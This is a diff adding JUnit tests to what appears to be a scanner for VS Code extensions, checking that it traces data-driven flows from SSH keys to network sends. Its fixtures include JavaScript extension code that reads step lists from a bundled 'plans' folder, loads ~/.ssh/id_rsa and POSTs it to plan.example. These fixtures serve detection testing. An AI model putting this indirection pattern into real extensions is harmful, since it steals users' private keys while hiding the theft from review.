@@ -2,7 +2,10 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.util.Map;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Data in lists of the editor, behind strung calls, in files where it is parked and in commands that take it along. */
 class ListsAndFilesTest {
@@ -117,5 +120,60 @@ class ListsAndFilesTest {
                 """);
 
         assertThat(analysis.flowNames()).contains("keystrokes -> network-send");
+    }
+
+    /** A program whose steps are data: what is done stands in a file beside it, whose name the program does not hold. */
+    private static final String RUNS_STEPS = """
+            const fs = require('fs'), os = require('os'), path = require('path');
+            const steps = {
+              home: (state, name) => { state.at = path.join(os.homedir(), name); },
+              read: state => { state.text = fs.readFileSync(state.at, 'utf8'); },
+              send: (state, url) => fetch(url, { method: 'POST', body: state.text }),
+            };
+            const run = async plan => {
+              const state = {};
+              for (const [name, ...given] of plan) await steps[name]?.(state, ...given);
+            };
+            exports.activate = async context => {
+              %s
+            };
+            """;
+
+    private static final String KEY_LEAVES =
+            "[[\"home\", \".ssh/id_rsa\"], [\"read\"], [\"send\", \"https://plan.example/p\"]]";
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const at = context.asAbsolutePath('plans');"
+                        + " for (const name of fs.readdirSync(at)) run(JSON.parse(fs.readFileSync(path.join(at, name))));",
+                "const at = path.join(__dirname, 'plans'); for (const one of fs.readdirSync(at, { withFileTypes: true }))"
+                        + " if (one.isFile()) run(JSON.parse(fs.readFileSync(path.join(at, one.name))));",
+                "const at = context.asAbsolutePath('plans'); fs.readdir(at, (error, names) => { for (const name of names)"
+                        + " run(JSON.parse(fs.readFileSync(path.join(at, name)))); });",
+                "const at = require('vscode').Uri.joinPath(context.extensionUri, 'plans');"
+                        + " for (const [name] of await require('vscode').workspace.fs.readDirectory(at))"
+                        + " run(JSON.parse(fs.readFileSync(require('vscode').Uri.joinPath(at, name).fsPath)));",
+            })
+    void followsStepsThatStandInAFileOfAListedFolderOfThePackage(String start) {
+        Analysis analysis = Analysis.of(Map.of(
+                "extension.js", RUNS_STEPS.formatted(start), "plans/weekly.json", KEY_LEAVES, "plain.json", "[]"));
+
+        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
+    }
+
+    @Test
+    void listsOnlyTheFolderThatIsAskedFor() {
+        Analysis analysis = Analysis.of(Map.of(
+                "extension.js",
+                RUNS_STEPS.formatted(
+                        "const at = context.asAbsolutePath('plans');"
+                                + " for (const name of fs.readdirSync(at)) run(JSON.parse(fs.readFileSync(path.join(at, name))));"),
+                "plans/weekly.json",
+                "[[\"home\", \".ssh/id_rsa\"], [\"read\"]]",
+                "samples/never.json",
+                KEY_LEAVES));
+
+        assertThat(analysis.flowNames()).isEmpty();
     }
 }
